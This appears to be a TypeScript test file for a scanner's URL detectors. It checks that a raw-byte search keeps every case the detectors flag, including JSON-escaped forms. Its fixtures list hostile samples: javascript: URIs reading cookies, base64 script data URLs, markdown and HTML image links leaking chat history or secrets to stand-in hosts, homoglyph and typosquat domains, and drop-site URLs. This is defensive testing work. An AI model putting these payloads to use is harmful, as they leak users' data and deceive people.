// What the network detectors find in a URL, the search over raw bytes lets through: as it is, with escaped slashes as
// careful JSON writers leave them, and with everything beyond ASCII escaped.
import assert from "node:assert/strict";
import { test } from "node:test";
import type { RecordDetector } from "../../core/detector.ts";
import { NO_PLAN } from "../../core/roles.ts";
import { toRecord } from "../../core/fields.ts";
import { buildSearch } from "../../scan/search.ts";
import { dropSite } from "./drop-site.ts";
import { imageExfiltration } from "./image-exfiltration.ts";
import { lookalikeDomain } from "./lookalike-domain.ts";
import { rawIpEndpoint } from "./raw-ip-endpoint.ts";
import { suspiciousUrl } from "./suspicious-url.ts";

const link = (rest: string, scheme = "https"): string => [scheme, rest].join("://");
const ip = [203, 0, 113, 7].join(".");
const number = String(((203 * 256 + 0) * 256 + 113) * 256 + 7);
const spoken = Buffer.from("the patient says that the pain is worse at night").toString("base64");
const script = Buffer.from(["<scr", "ipt>document.title=1</scr", "ipt>"].join("")).toString("base64");

const POSITIVE: readonly (readonly [RecordDetector, readonly string[]])[] = [
  [
    rawIpEndpoint,
    [
      ...[
        link(`${ip}/a`),
        link(`${ip}:8080`, "ftp"),
        `tcp 203.0.113.7:4444`,
        link(`user:pw@${ip}/`),
        link(`${ip}.`, "wss"),
      ],
      ...[
        link(`${number}/a`),
        link(`0x${Number(number).toString(16)}/`),
        link("0313.0.0161.07/"),
        link("203.0.28935/x"),
      ],
      ...[link("[2001:db8::7]/a"), link("[::ffff:203.0.113.7]:80/"), link(`google.com@${number}/x`)],
    ],
  ],
  [
    suspiciousUrl,
    [
      ...[
        link("huggingface.co@files.example/x"),
        link("www.github.com:login@evil.example"),
        link("docs.dev%20@evil.example/"),
      ],
      ...[`[x](data:text/html;base64,${script})`, `data:application/xhtml+xml;base64,${script}`],
      ...["javascript:fetch('//x.example')", "JavaScript:alert(document.cookie)", "javascript:new Image().src='//x'"],
    ],
  ],
  [
    imageExfiltration,
    [
      ...[
        `![](${link("x.example/p?q={conversation}")})`,
        `![logo]( ${link("x.example/p?q=[USER DATA]")} "t") ![b](https://x`,
      ],
      ...[
        `<img width=1 src="${link("x.example/?d={{chat_history}}")}">`,
        `<IMG SRC='${link("x.example/#${secret}")}'>`,
      ],
      ...[`![](${link(`x.example/log?dump=${spoken}`)})`, `[here](<${link("x.example/?k=<password>")}>)`],
    ],
  ],
  [
    lookalikeDomain,
    [
      ...["huggingf\u0430ce.co", "micr0soft.com", "githob.com", "xgithub.com", "gihtub.com", "gthub.com"].map((h) =>
        link(h),
      ),
      ...[
        "github.com.files.example",
        "github-login.com",
        "www.g\u043e\u043egle.com",
        "xn--ggle-55da.com",
        "arnazon.com",
      ].map((h) => link(`${h}/x`)),
    ],
  ],
  [
    dropSite,
    [
      link(`${["webhook", "site"].join(".")}/3f2a9c1e-7b64-4d0a-9e55-0c8d7b6a5f41`),
      `see ${["a1b2c3", "ngrok-free", "app"].join(".")}/in`,
      link(`${["transfer", "sh"].join(".")}/abcdef/x.sh`),
    ],
  ],
];

for (const [detector, texts] of POSITIVE) {
  test(`${detector.id}: what it finds is selected`, () => {
    const search = buildSearch([detector]);
    const selected = (raw: string): boolean => {
      const bytes = Buffer.from(raw);
      const masks = new Uint32Array(search.words);
      const [starts, ends] = [Uint32Array.of(0), Uint32Array.of(bytes.length)];
      search.mark({ bytes, starts, ends, count: 1, escapes: "backslash" }, masks);
      return masks.some((word) => word !== 0);
    };
    for (const text of texts) {
      let hits = 0;
      detector.inspect(toRecord(0, { value: { note: text } }, NO_PLAN), () => hits++);
      const raw = JSON.stringify({ note: text });
      const ascii = raw.replaceAll(/[^\0-\x7f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
      const careful = ascii.replaceAll(/[<>&=]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);
      if (hits === 0) assert.fail(`not found: ${text}`);
      for (const form of [raw, ascii, careful, raw.replaceAll("/", "\\/")]) assert.ok(selected(form), form);
    }
  });
}
